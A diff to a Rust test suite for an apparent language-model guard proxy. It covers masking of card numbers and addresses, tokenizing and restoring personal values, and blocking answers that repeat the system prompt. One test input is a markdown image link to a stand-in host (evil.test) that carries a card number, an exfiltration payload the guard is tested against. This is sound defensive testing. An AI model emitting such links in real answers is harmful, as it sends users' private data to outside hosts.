@@ -26,6 +26,7 @@ fn guarding(strictness: Strictness) -> std::sync::Arc<Guarding> {
         link_hosts,
         external: External::default(),
         system,
+        tokens: None,
     };
     std::sync::Arc::new(Guarding::new(options))
 }
@@ -134,7 +135,7 @@ async fn who_is_asked_outside_sees_masked_words_and_has_a_say() {
         assert!(matches!(own.prompt(request()).await, Err(CallError::Blocked(_))));
     }
     let (own, _) = judge(vec![Judgement::of(Concern::Harm, 0.9)]);
-    assert!(own.answer("m", Bytes::from(answer("hello"))).await.unwrap().is_refused);
+    assert!(own.answer("m", Bytes::from(answer("hello")), &Restoring::default()).await.unwrap().is_refused);
 }
 
 fn answer(text: &str) -> String {
@@ -150,7 +151,8 @@ fn answer(text: &str) -> String {
 #[tokio::test]
 async fn whole_answers_are_masked_and_those_that_leak_are_emptied() {
     let read = async |strictness, text: &str| {
-        let read = guarding(strictness).answer("m", Bytes::from(answer(text))).await.unwrap();
+        let read =
+            guarding(strictness).answer("m", Bytes::from(answer(text)), &Restoring::default()).await.unwrap();
         (serde_json::from_slice::<serde_json::Value>(&read.body).unwrap(), read.header, read.is_refused)
     };
     let text = format!("{CARD} ![x](https://evil.test/{CARD}) [ok](https://docs.house.example/)");
@@ -174,15 +176,73 @@ async fn whole_answers_are_masked_and_those_that_leak_are_emptied() {
     let repeated = read(Strictness::Block, &format!("My rules: {SYSTEM}")).await;
     assert!(repeated.2, "it repeats its prompt");
     assert!(header.unwrap().1.starts_with("block: "));
-    assert!(guarding(Strictness::Mask).answer("m", Bytes::from_static(b"<html>")).await.is_err());
-    let observed = guarding(Strictness::Observe).answer("m", Bytes::from_static(b"<html>")).await.unwrap();
+    assert!(
+        guarding(Strictness::Mask)
+            .answer("m", Bytes::from_static(b"<html>"), &Restoring::default())
+            .await
+            .is_err()
+    );
+    let observed = guarding(Strictness::Observe)
+        .answer("m", Bytes::from_static(b"<html>"), &Restoring::default())
+        .await
+        .unwrap();
     assert_eq!(observed.body, "<html>", "one that only counts passes it on");
+}
+
+/// A route that gives values tokens, and what it makes of a prompt.
+async fn tokens(output: Strictness, text: &str) -> (Arc<Guarding>, String, Restoring) {
+    let key = TokenKey::new(&access::PrivateText::new("0123456789abcdef0123456789abcdef")).unwrap();
+    let own = Arc::new(Guarding::new(GuardingOptions {
+        input: Strictness::Mask,
+        output,
+        link_hosts: Some(Vec::new()),
+        tokens: Some(key),
+        ..GuardingOptions::default()
+    }));
+    let request = Request::read(Operation::Chat, Bytes::from(chat("user", text))).unwrap();
+    let Guarded { request, tokens, .. } = own.prompt(request).await.unwrap();
+    let body: serde_json::Value = serde_json::from_slice(request.body()).unwrap();
+    (own, body["messages"][0]["content"].as_str().unwrap().to_owned(), Restoring::new(tokens))
+}
+
+#[tokio::test]
+async fn values_go_as_tokens_and_come_back() {
+    let street = "12 Old Mercer Street\\nPortland, OR 97201";
+    for output in [Strictness::Off, Strictness::Observe, Strictness::Mask, Strictness::Block] {
+        let (own, asked, known) =
+            tokens(output, &format!("ada@house.eu pays with {CARD}; he lives at {street}")).await;
+        let found: Vec<String> = guard::tokens_in(&asked).map(str::to_owned).collect();
+        let [mail, card, home] = &found[..] else { panic!("{asked}") };
+        assert_eq!(asked, format!("{mail} pays with {card}; he lives at {home}"));
+        let (_, again, _) = tokens(output, "Who is ada@house.eu?").await;
+        assert_eq!(again, format!("Who is {mail}?"), "a value keeps its token");
+
+        let said = format!("{mail} and [email_address#0000000000000000] paid with {card}.");
+        let whole = answer(&said).replace(CARD, home);
+        let read = own.answer("m", Bytes::from(whole), &known).await.unwrap();
+        let read: serde_json::Value = serde_json::from_slice(&read.body).unwrap();
+        let message = &read["choices"][0]["message"];
+        let expected = format!("ada@house.eu and [email_address#0000000000000000] paid with {CARD}.");
+        assert_eq!(message["content"], expected);
+        let arguments = message["tool_calls"][0]["function"]["arguments"].as_str().unwrap();
+        let arguments: serde_json::Value = serde_json::from_str(arguments).unwrap();
+        assert_eq!(arguments["card"], "12 Old Mercer Street\nPortland, OR 97201");
+
+        for size in [1, 5, 1000] {
+            let pieces: Vec<&str> =
+                said.as_bytes().chunks(size).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
+            let stream = rewritten(Rewriter::new(&own, "m", known.clone()), &pieces, true);
+            assert_eq!(heard(&stream), (expected.clone(), "stop".into()), "{size}");
+        }
+    }
 }
 
 /// A stream of these pieces, as a model's server sends it, through a rewriter.
 fn through(strictness: Strictness, pieces: &[&str], ends: bool) -> String {
-    let guarding = guarding(strictness);
-    let mut rewriter = Rewriter::new(&guarding, "m");
+    rewritten(Rewriter::new(&guarding(strictness), "m", Restoring::default()), pieces, ends)
+}
+
+fn rewritten(mut rewriter: Rewriter, pieces: &[&str], ends: bool) -> String {
     let mut out = String::new();
     let mut events: Vec<String> = pieces
         .iter()
@@ -269,10 +329,10 @@ proptest! {
     #[test]
     fn arbitrary_events_do_no_harm(data in r#"[ \[\]{}:,"\\a1tn\-]{0,40}|\{"choices":\[[ \[\]{}:,"\\a1]{0,30}\]\}"#) {
         let guarding = guarding(Strictness::Mask);
-        let mut rewriter = Rewriter::new(&guarding, "m");
+        let mut rewriter = Rewriter::new(&guarding, "m", Restoring::default());
         let event = Bytes::from(format!("data: {data}\n\n"));
         let _ = rewriter.event(&event);
-        let _ = guarding.read_answer("m", Bytes::from(data), Seen::default());
+        let _ = guarding.read_answer("m", Bytes::from(data), (Seen::default(), &Restoring::default()));
     }
 
     /// Whatever a model says comes out whole where nothing is found in it.
